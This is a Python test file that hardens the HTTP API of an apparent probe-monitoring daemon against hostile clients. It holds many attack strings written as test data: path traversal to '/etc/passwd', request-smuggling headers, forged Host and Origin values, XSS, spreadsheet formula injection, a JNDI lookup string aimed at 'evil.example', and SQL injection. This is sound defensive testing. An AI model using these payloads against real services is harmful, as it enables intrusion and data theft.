#!/usr/bin/python3
"""Hostile clients of the HTTP API: slow, half gone, too many, too large, malformed, forged, guessing, and with text that
would be a formula, a header, a line of a log or markup. Each gets the status that is right or the end of its connection;
nobody else is harmed, memory stays bounded, and no answer names a path or a secret.

    api_test.py PROBEKEEPERD
"""
import concurrent.futures
import contextlib
import csv
import html.parser
import io
import json
import math
import os
import re
import resource
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest
from xml.etree import ElementTree

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from harness import CountingDevice, Daemon, descriptors, end_with_us, free_port, memory_bound, resident_kb, until  # noqa: E402

DAEMON = os.path.abspath(sys.argv[1])
HOUR = 3600
CONFIG = """
[store]
path = "store.db"
[http]
listen = "127.0.0.1:{http}"
{access}
[[depot]]
id = "yard"
latitude = 50.0
longitude = 0.0
[[technician]]
id = "t1"
name = "=1+1<script>alert(1)</script>"
depot = "yard"
hours = {{ monday = "08:00-17:00", tuesday = "08:00-17:00", wednesday = "08:00-17:00" }}
[[site]]
id = "farm"
name = "=HYPERLINK(\\"http://evil.example\\")<img src=x onerror=alert(1)>"
kind = "aquaculture"
latitude = 50.0
longitude = 0.0
altitude_m = 0.0
salinity_psu = 0.0
address = "</td><script>alert(1)</script>"
access_notes = "@SUM(1+1)*cmd|' /C calc'!A0"
[[line]]
id = "line"
site = "farm"
transport = "tcp"
host = "127.0.0.1"
port = {modbus}
[[register_map]]
id = "floats"
dissolved_oxygen = {{ table = "holding", address = 0, type = "float32", order = "ABCD", unit = "mg/L" }}
temperature = {{ table = "holding", address = 2, type = "float32", order = "ABCD", unit = "degC" }}
[[probe]]
id = "polled-1"
line = "line"
unit = 1
register_map = "floats"
poll_s = 0.2
t90_s = 40.0
[[probe]]
id = "tank-1"
site = "farm"
location = "+inlet\\"><script>alert(1)</script>"
serial = "=1+1"
membrane = "-2+3"
use = "alarm"
t90_s = 40.0
[[probe]]
id = "tank-2"
site = "farm"
t90_s = 40.0
[limits]
reference_percent = 20.0
"""
WEEK = time.strftime("%G-W%V", time.gmtime(time.time() + 7 * 24 * HOUR))
MARK = "zqx"  # stands in every hostile text, so that it is known where it comes out
HOSTILE_TEXTS = [
    "=cmd|' /C calc'!A0" + MARK, "+1+1" + MARK, "-1+1" + MARK, "@SUM(1)" + MARK, "\t=1+1" + MARK,
    "<script>alert('zqx')</script>", "\"><img src=x onerror=alert(1)>" + MARK, "</title></svg><script>zqx", "&lt;b&gt;zqx",
    "zqx\r\nSet-Cookie: zqx=1\r\n\r\n<html>", "zqx\nBEGIN:VEVENT\nSUMMARY:zqx\nEND:VEVENT", "zqx\nevent=stopped",
    "zqx\x1b[31mred\x1b]0;title\x07", "zqx\u202egnp.exe", "zqx\u2028line", "zqx%s%n%x{}{0}", "zqx'; DROP TABLE tickets; --",
    "zqx" + "A" * 300, "zqx\u0000behind", "zqx\ud83d\ude00", "zqx${jndi:ldap://evil.example/a}", "zqx,\"a\";b\n=2+2",
]


def stamp(unix_s):
    return time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(unix_s))


class Raw:
    """A connection on which anything is sent, and the answers read as bytes."""

    def __init__(self, port, timeout=20):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=timeout)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def send(self, data):
        try:
            self.socket.sendall(data)
        except (BrokenPipeError, ConnectionResetError):
            pass  # refused before all was sent

    def all(self):
        """Everything until the server closes."""
        data = b""
        while True:
            try:
                piece = self.socket.recv(65536)
            except ConnectionResetError:
                return data
            if not piece:
                return data
            data += piece


def status_of(answer):
    found = re.match(rb"HTTP/1\.1 (\d{3}) ", answer)
    return int(found.group(1)) if found else None


class Texts(html.parser.HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes += attributes


class Api(unittest.TestCase):
    access = ""

    @classmethod
    def setUpClass(cls):
        cls.cleanup = contextlib.ExitStack()
        cls.folder = cls.cleanup.enter_context(tempfile.TemporaryDirectory(prefix="probekeeper-api-"))
        cls.device = CountingDevice()
        cls.daemon = Daemon(DAEMON, cls.folder, free_port())
        with open(cls.daemon.path("c.toml"), "w", encoding="utf-8") as file:
            file.write(CONFIG.format(http=cls.daemon.port, modbus=cls.device.port, access=cls.access))
        cls.prepare()
        cls.daemon.start()
        cls.cleanup.callback(cls.end)

    @classmethod
    def prepare(cls):
        pass

    @classmethod
    def end(cls):
        code = cls.daemon.stop()
        if code != 0:
            raise AssertionError(f"the daemon ended with {code}: {cls.daemon.log()[-2000:]}")

    @classmethod
    def tearDownClass(cls):
        cls.cleanup.close()

    def ask(self, *arguments, **named):
        return self.daemon.ask(*arguments, **named)

    def raw(self, data, half=True):
        """The status of the answer to these bytes, and all of it; None: closed without one."""
        with Raw(self.daemon.port) as client:
            client.send(data)
            if half:
                with contextlib.suppress(OSError):
                    client.socket.shutdown(socket.SHUT_WR)
            answer = client.all()
        self.assertNotIn(self.folder.encode(), answer, "an answer names a path of this machine")
        return status_of(answer), answer

    def lives(self):
        self.assertIsNone(self.daemon.process.poll(), self.daemon.log()[-2000:])
        began = time.monotonic()
        self.assertEqual(200, self.ask("GET", "/v1/health")[0])
        self.assertLess(time.monotonic() - began, 1.0)


class Open(Api):
    """Without tokens, as on loopback."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.daemon.ready()
        cls.began = int(time.time()) // 300 * 300
        rows = ["time,probe,do_mg_l,temperature_c"]
        for at in range(cls.began - 36 * HOUR, cls.began, 60):
            hours = (at - cls.began) / HOUR
            for probe in ("tank-1", "tank-2"):
                rows.append(f"{stamp(at)},{probe},{9 + 0.4 * math.sin(hours * 6) + 0.02 * math.sin(hours * 611):.3f},15.0")
        status, answer = cls.daemon.ask("POST", "/v1/readings", "\n".join(rows + [""]), {"Content-Type": "text/csv"})
        if status != 200 or answer["accepted"] != len(rows) - 1:
            raise AssertionError(f"{status} {answer}")
        until("it has been diagnosed", lambda: cls.daemon.ask("GET", "/v1/probes/tank-1/diagnosis")[0] == 200)

    def request(self, target, method="GET", host="localhost", more="", body=b""):
        if isinstance(target, str):
            target = target.encode()
        return self.raw(method.encode() + b" " + target + f" HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n".encode()
                        + body)

    def post(self, target, body, content="application/json", more=""):
        body = body if isinstance(body, bytes) else body.encode()
        return self.request(target, "POST", more=f"Content-Type: {content}\r\nContent-Length: {len(body)}\r\n{more}", body=body)

    def ticket(self, probe):
        """One that nobody has taken a step on."""
        status, answer = self.ask("POST", f"/v1/probes/{probe}/service-records", {
            "time": stamp(self.began - 4 * HOUR), "kind": "reference_check", "reference_mg_l": 3.0, "probe_mg_l": 9.0})
        self.assertEqual(201, status, answer)
        return until("a ticket", lambda: self.daemon.pages(f"/v1/tickets?state=open&probe={probe}"))[0]["id"]

    def test_slow_and_half_gone_clients_harm_nobody(self):
        clients = []
        for n in range(60):
            client = Raw(self.daemon.port)
            self.addCleanup(client.socket.close)
            client.send([b"", b"G", b"GET /v1/health HT", b"POST /v1/readings HTTP/1.1\r\nHost: localhost\r\nContent-Type: "
                         b"text/csv\r\nContent-Length: 1000\r\n\r\ntime,", b"GET /v1/probes HTTP/1.1\r\nHost: local"][n % 5])
            if n % 2:
                client.socket.shutdown(socket.SHUT_WR)
            clients.append(client)
        for _ in range(50):
            began = time.monotonic()
            self.assertEqual(200, self.ask("GET", "/v1/probes")[0])
            self.assertLess(time.monotonic() - began, 1.0)
        # A byte a second is no request: the whole header has ten seconds.
        with Raw(self.daemon.port, timeout=30) as slow:
            began = time.monotonic()
            for byte in b"GET /v1/health HTTP/1.1\r\n":
                slow.send(bytes([byte]))
                time.sleep(0.5)
                if time.monotonic() - began > 11:
                    break
            self.assertEqual(408, status_of(slow.all()))
            self.assertLess(time.monotonic() - began, 15)
        self.lives()

    def test_clients_that_never_read_their_answers_are_bounded(self):
        before = resident_kb(self.daemon.process.pid)
        clients = []
        for n in range(40):
            client = Raw(self.daemon.port)
            self.addCleanup(client.socket.close)
            client.socket.setblocking(False)
            target = b"/v1/events" if n % 2 else b"/openapi.json"
            with contextlib.suppress(BlockingIOError):
                client.socket.send((b"GET " + target + b" HTTP/1.1\r\nHost: localhost\r\n\r\n") * (1 if n % 2 else 200))
            clients.append(client)
        time.sleep(2)
        self.assertLess(resident_kb(self.daemon.process.pid) - before, memory_bound(60_000))
        self.lives()

    def test_what_is_too_large_is_refused_before_it_is_read(self):
        before = resident_kb(self.daemon.process.pid)
        for size in (17_000, 1_000_000, 20_000_000):
            self.assertIn(self.request("/v1/health", more="X: " + "a" * size + "\r\n")[0], (431, None))
        self.assertEqual(431, self.request("/v1/health", more="X: " + "a" * 17_000 + "\r\n")[0])
        self.assertEqual(431, self.request("/v1/health", more="".join(f"X-{n}: y\r\n" for n in range(5000)))[0])
        self.assertIn(self.request("/" + "a" * 20_000)[0], (414, 431))
        for length in (1024 * 1024 + 1, 10**10, 2**63 - 1):
            head = f"Content-Type: application/json\r\nContent-Length: {length}\r\n"
            self.assertEqual(413, self.request("/v1/probes/tank-1/service-records", "POST", more=head, body=b"{")[0])
        self.assertEqual(400, self.request("/v1/probes/tank-1/service-records", "POST",
                                           more=f"Content-Type: application/json\r\nContent-Length: {2**64}\r\n")[0])
        chunk = b"100000\r\n" + b"a" * 0x100000 + b"\r\n"
        status, _ = self.request("/v1/probes/tank-1/service-records", "POST",
                                 more="Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n", body=chunk * 5)
        self.assertEqual(413, status)
        head = f"Content-Type: text/csv\r\nContent-Length: {2**30 + 1}\r\n"
        self.assertEqual(413, self.request("/v1/readings", "POST", more=head, body=b"time,")[0])
        self.assertLess(resident_kb(self.daemon.process.pid) - before, memory_bound(40_000))
        self.assertEqual([], [name for name in os.listdir(self.folder) if name not in
                              ("c.toml", "log", "store.db", "store.db-wal", "store.db-shm", "store.db.lock")], "left over")
        self.lives()

    def test_bodies_that_are_no_json_are_refused(self):
        at = "/v1/probes/tank-2/service-records"
        deep = [b"[" * 100_000, b"{\"a\":" * 50_000 + b"1" + b"}" * 50_000, b"{\"note\":" + b"[" * 40 + b"]" * 40 + b"}"]
        encodings = ["{\"kind\":\"inspection\"}".encode("utf-16"), b"\xef\xbb\xbf{\"kind\":\"inspection\"}",
                     b"{\"kind\":\"inspection\",\"note\":\"\xff\xfe\"}", b"{\"kind\":\"inspection\",\"note\":\"\xc0\xaf\"}",
                     b"{\"kind\":\"inspection\",\"note\":\"\xed\xa0\x80\"}", b"{\"kind\":\"inspection\",\"note\":\"\\ud800\"}"]
        numbers = [b"{\"kind\":\"inspection\",\"probe_mg_l\":NaN}", b"{\"kind\":\"inspection\",\"probe_mg_l\":1e999}",
                   b"{\"kind\":\"inspection\",\"probe_mg_l\":" + b"9" * 5000 + b"}"]
        broken = [b"", b"null", b"[]", b"1", b"\"x\"", b"{", b"{\"kind\":\"inspection\"} x", b"{'kind':'inspection'}",
                  b"{\"kind\":7}", b"{\"kind\":\"nosuch\"}", b"{\"kind\":\"inspection\",\"nosuch\":1}", b"\0" * 100]
        for body in deep + encodings + numbers + broken:
            status, answer = self.post(at, body)
            self.assertIn(status, (400, 422), (body[:60], answer[-300:]))
            self.assertIn(b"application/problem+json", answer)
        for content in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/json",
                        "application/json; charset=latin1", "application/json, text/plain"):
            self.assertEqual(415, self.post(at, b"{\"kind\":\"inspection\"}", content)[0], content)
        self.assertEqual(415, self.post(at, b"\x1f\x8b\x08\0\0", more="Content-Encoding: gzip\r\n")[0])
        self.assertNotIn("inspection", [record["kind"] for record in self.daemon.pages(at)], "one of them was kept")
        self.lives()

    def test_paths_lead_nowhere_else(self):
        for target in ("/../../etc/passwd", "/v1/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/v1/probes/..%2f..%2fstore.db",
                       "/v1/probes/%2e%2e%2fstore.db", "/v1/probes/..%5c..%5cstore.db", "/v1/probes/tank-1%00.json", "/%00",
                       "/v1/probes/%c0%ae%c0%ae%c0%af", "/v1/probes/%e0%80%ae", "/v1/probes/%f0%80%80%ae", "/v1/probes/%ff",
                       "//evil.example/v1/health", "/v1//health", "/v1/./probes", "/v1/health/..", "/store.db", "/v1/probes/%",
                       "/v1/probes/%2", "/v1/probes/%zz", "/v1/probes/tank-1\\..", "/.git/config", "/v1/probes/" + "a" * 3000,
                       "/v1/sites/farm/report.html/../../probes", "/v1/rounds/../../x.csv", "/v1/rounds/2026-W49%2f..",
                       "/v1/tickets/farm-99999999999999999999", "/v1/tickets/farm--1", "/v1/instruments/..%2f..%2fc.toml",
                       "/problems/..%2fc.toml", "/v1/probes?limit=1e9", "/v1/probes?after=%00", "/v1/probes?limit=-1",
                       "/v1/probes?nosuch=1", "/v1/probes/tank-1/readings?from=9999999999999999", "/v1/tickets?after=%ff%fe",
                       "/v1/probes/tank-1/chart.svg?quantity=%3Cscript%3E", "/v1/sites/farm/report?month=2026-13",
                       "/v1/probes/tank-1/readings?from=%0d%0aSet-Cookie:x"):
            status, answer = self.request(target)
            self.assertIn(status, (400, 404, 414, 422), (target, answer[:300]))
            self.assertNotIn(b"root:", answer)
            self.assertNotIn(b"SQLite", answer)
            self.assertNotIn(b"Set-Cookie", answer.split(b"\r\n\r\n")[0])
        for method in ("TRACE", "CONNECT", "PUT", "DELETE", "PATCH", "get", "PROPFIND", "\"GET\"", "A" * 200):
            self.assertIn(self.request("/v1/health", method)[0], (400, 404, 405, 501), method)
        for line in (b"GET\r\n\r\n", b"GET  /v1/health HTTP/1.1\r\nHost: localhost\r\n\r\n", b"GET /v1/health HTTP/9.9\r\n\r\n",
                     b"GET /v1/health\r\n\r\n", b"\r\n\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                     b"GET /v1/health HTTP/1.1\r\nHost: localhost\r\n Folded: x\r\n\r\n", b"GET /v1/health HTTP/1.1\r\nHost : localhost\r\n\r\n",
                     b"GET /v1/health HTTP/1.1\r\nHost: local\0host\r\n\r\n", b"GET /v1/health HTTP/1.1\r\n\r\n"):
            self.assertIn(self.raw(line)[0], (400, 408, 421, 431, 505, None), line)
        self.lives()

    def test_one_request_cannot_hide_another(self):
        hidden = b"GET /v1/changes HTTP/1.1\r\nHost: localhost\r\n\r\n"
        at = b"POST /v1/probes/tank-1/service-records HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        for head in (b"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n", b"Content-Length: 2\r\nContent-Length: 3\r\n",
                     b"Content-Length: +2\r\n", b"Content-Length: 0x2\r\n", b"Content-Length: 2, 3\r\n",
                     b"Transfer-Encoding: xchunked\r\n", b"Transfer-Encoding: chunked, identity\r\n",
                     b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"):
            status, answer = self.raw(at + head + b"\r\n{}" + hidden)
            self.assertIn(status, (400, 413, 501, None), (head, answer[:200]))
            self.assertLessEqual(answer.count(b"HTTP/1.1 "), 1, head)
        for chunks in (b"-1\r\n", b"fffffffffffffffff\r\n", b"zz\r\n", b"2\r\n{}GARBAGE", b"2;" + b"a" * 100_000 + b"\r\n{}\r\n0\r\n\r\n"):
            status, answer = self.raw(at + b"Transfer-Encoding: chunked\r\n\r\n" + chunks + hidden)
            self.assertIn(status, (400, 413, 422, 431, None), (chunks[:40], answer[:200]))
            self.assertNotIn(b"\"items\"", answer)
        self.lives()

    def test_pages_of_others_change_nothing_and_read_nothing(self):
        at, body = "/v1/probes/tank-1/out-of-use", json.dumps({"from": "2030-01-01T00:00:00Z", "why": "x"})
        for origin in ("http://evil.example", "null", "http://localhost.evil.example", "http://127.0.0.1.evil.example",
                       "https://evil.example:8080", "file://", "http://localhost:1", "http://[::1", ""):
            status, answer = self.post(at, body, more=f"Origin: {origin}\r\n")
            self.assertEqual(403, status, origin)
            self.assertNotIn(b"Access-Control-Allow", answer)
            status, answer = self.request("/v1/probes", more=f"Origin: {origin}\r\n")
            self.assertNotIn(b"Access-Control-Allow", answer)
            status, answer = self.request(at, "OPTIONS", more=f"Origin: {origin}\r\nAccess-Control-Request-Method: POST\r\n")
            self.assertNotIn(b"Access-Control-Allow", answer)
        # What a form of another page can send without asking is refused by its content type.
        for content in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
            self.assertEqual(415, self.post(at, body, content)[0])
        self.assertEqual([], self.daemon.pages(at))

    def test_names_that_were_made_to_lead_here_are_refused(self):
        for host in ("evil.example", f"evil.example:{self.daemon.port}", "localhost.evil.example", "127.0.0.1.evil.example",
                     "127.0.0.1@evil.example", "evil.example#localhost", "169.254.169.254", "0.0.0.0", "[::ffff:7f00:1]",
                     "localhost evil", "", "127.1", "2130706433", "localhost,evil.example", "localhost\tx"):
            for target in ("/v1/probes", "/v1/health", "/metrics", "/openapi.json"):
                status, answer = self.request(target, host=host)
                self.assertIn(status, (400, 403, 421), (host, answer[:200]))
                self.assertNotIn(b"tank-1", answer)
        self.assertIn(self.request("http://evil.example/v1/probes")[0], (400, 403, 421))
        self.assertIn(self.request("http://localhost/v1/probes", host="evil.example")[0], (400, 403, 421))
        self.assertEqual(400, self.request("/v1/probes", more="Host: evil.example\r\n")[0], "two of them")

    def test_of_many_who_take_a_step_at_once_one_wins(self):
        ticket = self.ticket("tank-2")
        at = f"/v1/tickets/{ticket}"
        with concurrent.futures.ThreadPoolExecutor(24) as pool:
            barrier = threading.Barrier(24)

            def acknowledge(n):
                barrier.wait()
                return self.ask("POST", at + "/acknowledge", {"by": f"somebody {n}"})
            self.assertEqual([200] + 23 * [409], sorted(status for status, _ in pool.map(acknowledge, range(24))))

            # The same step under the same key is one step, and everybody is told the same of it.
            def close(_):
                barrier.wait()
                return self.ask("POST", at + "/close", {"by": "one", "found": "not_looked"}, {"Idempotency-Key": "the-same"})
            answers = list(pool.map(close, range(24)))
            self.assertEqual(24 * [answers[0]], answers)
            self.assertEqual(200, answers[0][0])
        states = [step["state"] for step in self.daemon.get(at)["history"]]
        self.assertEqual((1, 1), (states.count("acknowledged"), states.count("closed")), states)

    def everywhere(self, ticket):
        """All that shows what people wrote, by address."""
        for target in ("/v1/probes/tank-1/service-records?limit=1000", f"/v1/tickets/{ticket}", "/v1/tickets", "/v1/changes?limit=1000",
                       "/v1/probes/tank-1/out-of-use", "/v1/instruments", "/v1/probes/tank-1/membranes", "/v1/sites", "/v1/probes",
                       "/v1/sites/farm/report", "/v1/sites/farm/report.html", "/v1/probes/tank-1/chart.svg?quantity=do&days=3",
                       f"/v1/rounds/{WEEK}", f"/v1/rounds/{WEEK}.html", f"/v1/rounds/{WEEK}.csv", f"/v1/rounds/{WEEK}.ics",
                       "/v1/scada/points.csv", "/metrics", "/v1/findings", "/v1/membranes/statistics", "/v1/health"):
            status, answer = self.request(target)
            self.assertEqual(200, status, (target, answer[:300]))
            head, body = answer.split(b"\r\n\r\n", 1)
            yield target, head.decode("latin1"), body

    def test_what_people_write_is_text_wherever_it_comes_out(self):
        ticket, kept = self.ticket("tank-1"), 0
        for n, text in enumerate(HOSTILE_TEXTS):
            for member in ("by", "note", "visit"):
                status, answer = self.ask("POST", "/v1/probes/tank-1/service-records", {
                    "kind": "inspection", "time": stamp(self.began - 30 * HOUR + 60 * n), member: text})
                self.assertIn(status, (201, 400, 422), (text, answer))
                kept += status == 201
            for step, body in (("plan", {"by": text, "date": time.strftime("%Y-%m-%d", time.gmtime(time.time() + 7 * 24 * HOUR)),
                                         "assigned_to": "t1", "note": text}),
                               ("postpone", {"by": text, "until": "2030-01-02T06:00:00Z", "why": text})):
                if n < 12:
                    self.assertIn(self.ask("POST", f"/v1/tickets/{ticket}/{step}", body)[0], (200, 400, 409, 422), text)
            self.assertIn(self.ask("POST", "/v1/probes/tank-1/out-of-use", {
                "from": "2030-01-01T00:00:00Z", "why": text, "by": text})[0], (201, 400, 422))
        self.assertGreater(kept, 30)
        for text in ("=1+1" + MARK, "<script>zqx</script>"):
            self.ask("POST", "/v1/probes/tank-1/service-records", {
                "kind": "probe_swap", "time": stamp(self.began - 35 * HOUR), "serial": text, "by": text})
        self.ask("POST", f"/v1/tickets/{ticket}/plan", {"by": "x", "date": time.strftime(
            "%Y-%m-%d", time.gmtime(time.time() + 7 * 24 * HOUR)), "assigned_to": "t1"})
        for target, head, body in self.everywhere(ticket):
            with self.subTest(target):
                self.assertNotIn(MARK, head)
                self.assertNotIn("evil", head)
                self.assertIn("X-Content-Type-Options: nosniff", head)
                self.assertIn("Content-Security-Policy: ", head)
                self.holds_as_text(target, body.decode("utf-8"))
        with open(self.daemon.path("log"), "rb") as file:
            log = file.read().decode("utf-8")
        for line in log.split("\n")[:-1]:
            self.assertRegex(line, r"^\[?\d{4}-\d\d-\d\d|^<\d>", "a line of the log that the daemon did not begin")
            self.assertNotRegex(line, "[\x00-\x08\x0b-\x1f\x7f\u2028\u2029\u202e]", "the log holds control characters")
        self.assertEqual(0, log.count("event=stopped"))
        self.lives()

    def holds_as_text(self, target, body):
        path = target.split("?")[0]
        if path.endswith(".csv"):
            for row in csv.reader(io.StringIO(body)):
                for cell in row:
                    self.assertNotRegex(cell, r"^[=+@\t\r]|^-[^0-9]|^-\d+[^\d.]", f"a spreadsheet would calculate {cell!r}")
        elif path.endswith(".html"):
            page = Texts(body)
            self.assertFalse(page.tags & {"script", "img", "iframe", "object", "link", "base", "form"}, page.tags)
            self.assertFalse([name for name, _ in page.attributes if name.startswith("on")])
            self.assertFalse([value for name, value in page.attributes
                              if name in ("href", "src") and value and not value.startswith(("#", "/"))])
        elif path.endswith(".svg"):
            tags = {element.tag.split("}")[1] for element in ElementTree.fromstring(body).iter()}
            self.assertFalse(tags & {"script", "foreignObject", "image", "a", "use"})
        elif path.endswith(".ics"):
            lines = body.split("\r\n")
            self.assertEqual(lines.count("BEGIN:VEVENT"), lines.count("END:VEVENT"))
            self.assertNotIn("\n", "".join(lines))
            self.assertFalse([line for line in lines if line.startswith("SUMMARY:zqx")])
        elif path == "/metrics":
            for line in body.splitlines():
                self.assertRegex(line, r'^#|^probekeeper_[a-z_0-9]+(\{[a-z_]+="[^"\n]*"(,[a-z_]+="[^"\n]*")*\})? \S+$')
        else:
            json.loads(body)

    def test_ten_thousand_connections_leave_the_daemon_and_its_lines_at_work(self):
        pid = self.daemon.process.pid
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        many = min(10_000, hard - 500)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        self.addCleanup(resource.setrlimit, resource.RLIMIT_NOFILE, (soft, hard))
        self.lives()
        before, polls = resident_kb(pid), self.polls()
        crowd = []
        self.addCleanup(lambda: [client.close() for client in crowd])
        for _ in range(many):
            client = socket.socket()
            client.setblocking(False)
            client.connect_ex(("127.0.0.1", self.daemon.port))
            crowd.append(client)
            if len(crowd) % 200 == 0:
                time.sleep(0.01)  # for the accept queue, which is short
        # Others are served or told why not.
        told = set()
        for _ in range(20):
            try:
                told.add(self.daemon.ask("GET", "/v1/health", timeout=10)[0])
            except OSError:
                told.add(None)
        self.assertTrue(told <= {200, 503, None}, told)
        self.assertIn(503, told)
        peak, held = resident_kb(pid), descriptors(pid)
        self.assertLess(peak - before, memory_bound(100_000))
        self.assertLess(held, 700)
        self.device.drop()  # its line connects again, in the middle of it, and that needs a descriptor
        at = self.polls()
        until("polls that go on", lambda: self.polls() > at + 10, 30)
        for client in crowd:
            client.close()
        crowd.clear()
        until("places again", lambda: self.served(), 30)
        self.assertLess(resident_kb(pid) - before, memory_bound(100_000))
        self.lives()
        line = next(line for line in self.daemon.ask("GET", "/metrics")[1].decode().splitlines()
                    if line.startswith('probekeeper_polls_total{line="line",result="missed"}'))
        print(f"{many} connections: {peak - before} kB more, {held} descriptors, {at - polls} polls meanwhile, {line.split()[-1]} "
              f"missed, others got {sorted(str(s) for s in told)}")

    def polls(self):
        with self.device.lock:
            return self.device.count.get(1, 0)

    def served(self):
        try:
            return self.ask("GET", "/v1/health")[0] == 200
        except OSError:
            return False


class WithTokens(Api):
    access = 'tokens_file = "tokens"'

    @classmethod
    def prepare(cls):
        cls.tokens = {}
        for role in ("read", "operate", "admin"):
            # A configuration that names a file of tokens needs that file: the first one is made beside it.
            made = subprocess.run([DAEMON, "token", "add", role, "--role", role, "--config", cls.daemon.path("c.toml")],
                                  capture_output=True, text=True, check=False, preexec_fn=end_with_us)
            if made.returncode != 0:
                raise AssertionError(made.stderr)
            cls.tokens[role] = made.stdout.split()[-1]

    def as_role(self, role, method, target, body=None):
        return self.ask(method, target, body, {"Authorization": "Bearer " + self.tokens[role]})

    def test_roles_hold_and_guessing_is_slowed_down(self):
        until("the daemon answers", lambda: self.get_health() == 200)
        self.assertEqual(401, self.ask("GET", "/v1/probes")[0])
        self.assertEqual(403, self.as_role("read", "POST", "/v1/probes/tank-1/service-records", {"kind": "inspection"})[0])
        self.assertEqual(403, self.as_role("operate", "GET", "/v1/changes")[0])
        self.assertEqual(200, self.as_role("admin", "GET", "/v1/changes")[0])
        good = self.tokens["admin"]
        wrong = [good[:-1], good + "x", good.upper(), good[1:], "", " ", "Bearer", "null", "../tokens", "a" * 8000, "\xff\xfe",
                 good[:-1] + ("a" if good[-1] != "a" else "b"), "' OR 1=1 --"]
        for token in wrong:
            answer = self.raw(b"GET /v1/probes HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAuthorization: Bearer "
                              + token.encode("latin1") + b"\r\n\r\n")
            self.assertIn(answer[0], (400, 401), token)
            self.assertNotIn(good[:12].encode(), answer[1])
        for scheme in (b"Basic YWRtaW46YWRtaW4=", b"Bearer" + good.encode(), b"bearer: " + good.encode(), b"Token " + good.encode()):
            answer = self.raw(b"GET /v1/probes HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAuthorization: " + scheme + b"\r\n\r\n")
            self.assertEqual(401, answer[0], scheme)
        statuses = [self.ask("GET", "/v1/probes", headers={"Authorization": f"Bearer guess-{n}"})[0] for n in range(100)]
        self.assertEqual({401, 429}, set(statuses))
        self.assertLess(statuses.count(401), 25)
        status, answer = self.raw(b"GET /v1/probes HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAuthorization: Bearer guess\r\n\r\n")
        self.assertEqual(429, status)
        self.assertIn(b"Retry-After: ", answer)
        with open(self.daemon.path("log"), encoding="utf-8") as file:
            log = file.read()
        for token in self.tokens.values():
            self.assertNotIn(token, log)
            self.assertNotIn(token[-12:], log)

    def get_health(self):
        try:
            return self.as_role("read", "GET", "/v1/health")[0]
        except OSError:
            return None


if __name__ == "__main__":
    unittest.main(argv=sys.argv[:1] + sys.argv[2:], verbosity=2, warnings="ignore")
